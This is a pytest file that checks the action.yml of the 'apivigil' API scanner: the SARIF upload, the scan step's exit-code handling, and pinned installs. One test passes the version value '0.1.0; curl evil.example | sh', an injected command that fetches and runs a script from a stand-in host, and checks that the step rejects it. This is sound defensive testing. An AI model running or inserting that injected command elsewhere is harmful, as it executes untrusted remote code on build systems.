"""action.yml: a valid composite action whose scan step really works. The step's own bash
script runs here, as GitHub would run it, against a local API."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import yaml

from tests.fixtures.apps.reports import hostile_api

ACTION = Path(__file__).resolve().parents[2] / "action.yml"


def action() -> dict:
    return yaml.safe_load(ACTION.read_text())


def test_action_is_a_composite_that_uploads_sarif():
    spec = action()
    assert spec["runs"]["using"] == "composite"
    assert spec["inputs"]["target"]["required"] is True
    uses = [step.get("uses", "") for step in spec["runs"]["steps"]]
    assert any(u.startswith("github/codeql-action/upload-sarif@") for u in uses)
    upload = next(s for s in spec["runs"]["steps"] if "upload-sarif" in s.get("uses", ""))
    assert "always()" in upload["if"]  # findings fail the scan step's exit code, not the upload
    assert all("shell" in s for s in spec["runs"]["steps"] if "run" in s)


def run_scan_step(target: str, fail_on: str, extra: str, tmp_path: Path) -> tuple[str, Path]:
    step = next(s for s in action()["runs"]["steps"] if s.get("id") == "scan")
    output, summary = tmp_path / "github_output", tmp_path / "step_summary"
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary),
        "RUNNER_TEMP": str(tmp_path), "TARGET": target, "SPEC": "", "FAIL_ON": fail_on,
        "EXTRA_ARGS": extra, "SARIF_FILE": str(tmp_path / "apivigil.sarif"),
        "HTML_FILE": str(tmp_path / "report.html"), "APIVIGIL_USER": "", "NO_COLOR": "1",
    }
    done = subprocess.run(["bash", "-e", "-c", step["run"]], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr  # the step records the code; a later step fails
    return output.read_text(), summary


def test_scan_step_records_the_exit_code_and_writes_reports(serve, authority, tmp_path):
    server = serve(hostile_api(), tls="modern")
    extra = f"--cacert {authority.ca_path} --checks encryption.hsts"
    outputs, summary = run_scan_step(server.url + "/", "medium", extra, tmp_path)
    assert "exit-code=1" in outputs
    sarif = json.loads((tmp_path / "apivigil.sarif").read_text())
    assert sarif["runs"][0]["results"][0]["ruleId"] == "encryption.hsts-missing"
    assert (tmp_path / "report.html").is_file()
    assert summary.read_text().startswith("## apivigil: grade")
    outputs, _ = run_scan_step(server.url + "/", "high", extra, tmp_path)
    assert "exit-code=0" in outputs


def run_install_step(version: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    """The install step as GitHub runs it, with pip pointed at a local wheel directory (the
    only index here): what it installs lands in `tmp_path / "target"`."""
    step = next(s for s in action()["runs"]["steps"] if s.get("name") == "Install apivigil")
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "VERSION": version, "GITHUB_ACTION_PATH": str(ACTION.parent),
        "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(tmp_path / "wheels"),
        "PIP_TARGET": str(tmp_path / "target"), "PIP_NO_DEPS": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
    }
    return subprocess.run(["bash", "-e", "-c", step["run"]], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)


def release_wheel(directory: Path, version: str) -> None:
    """A minimal, valid wheel of `apivigil==version` (metadata only), as PyPI would serve."""
    import zipfile

    directory.mkdir(exist_ok=True)
    info = f"apivigil-{version}.dist-info"
    files = {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: apivigil\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                         "Tag: py3-none-any\n",
    }
    record = "".join(f"{name},,\n" for name in files) + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(directory / f"apivigil-{version}-py3-none-any.whl", "w") as wheel:
        for name, text in {**files, f"{info}/RECORD": record}.items():
            wheel.writestr(name, text)


def test_install_step_installs_the_pinned_release(tmp_path):
    release_wheel(tmp_path / "wheels", "0.1.0")
    release_wheel(tmp_path / "wheels", "9.9.9")
    done = run_install_step("0.1.0", tmp_path)
    assert done.returncode == 0, done.stderr
    assert [p.name for p in (tmp_path / "target").glob("apivigil-*.dist-info")] == [
        "apivigil-0.1.0.dist-info"]  # the pinned one, not the newest, not the checkout


def test_install_step_refuses_a_version_that_is_not_a_release_number(tmp_path):
    done = run_install_step("0.1.0; curl evil.example | sh", tmp_path)
    assert done.returncode == 2
    assert "::error::version must be a release number such as 0.1.0" in done.stdout
    assert not (tmp_path / "target").exists()
